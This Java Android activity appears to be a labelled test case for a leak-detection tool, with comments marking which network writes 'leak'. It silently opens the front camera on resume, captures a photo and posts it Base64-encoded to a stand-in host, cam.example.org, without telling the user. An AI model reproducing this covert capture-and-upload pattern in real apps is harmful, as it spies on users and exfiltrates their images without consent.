package olden;

import android.app.*;
import android.graphics.*;
import android.hardware.Camera;
import android.os.*;
import android.util.Base64;

import java.io.*;
import java.net.*;

/** A picture as text in a form. */
public class Shot extends Activity implements Camera.PictureCallback {
    Camera cam;
    byte[] shot;
    int shots;

    protected void onResume() {
        super.onResume();
        cam = Camera.open(1);
        cam.startPreview();
        cam.takePicture(null, null, this);
    }

    public void onPictureTaken(byte[] d, Camera c) {
        shots++;
        shot = d;
        Bitmap b = BitmapFactory.decodeByteArray(d, 0, d.length);
        ByteArrayOutputStream o = new ByteArrayOutputStream();
        b.compress(Bitmap.CompressFormat.JPEG, 40, o);
        final String t = Base64.encodeToString(o.toByteArray(), 0);
        new Thread() {
            public void run() {
                send(t);
            }
        }.start();
        c.release();
    }

    void send(String t) {
        try {
            HttpURLConnection h =
                    (HttpURLConnection) new URL("http://cam.example.org/").openConnection();
            OutputStream o = h.getOutputStream();
            o.write(("img=" + t).getBytes()); // leak
            o.write(("n=" + shots).getBytes()); // no leak
            o.write(shot, 0, 100); // leak
        } catch (IOException e) {
        }
    }
}
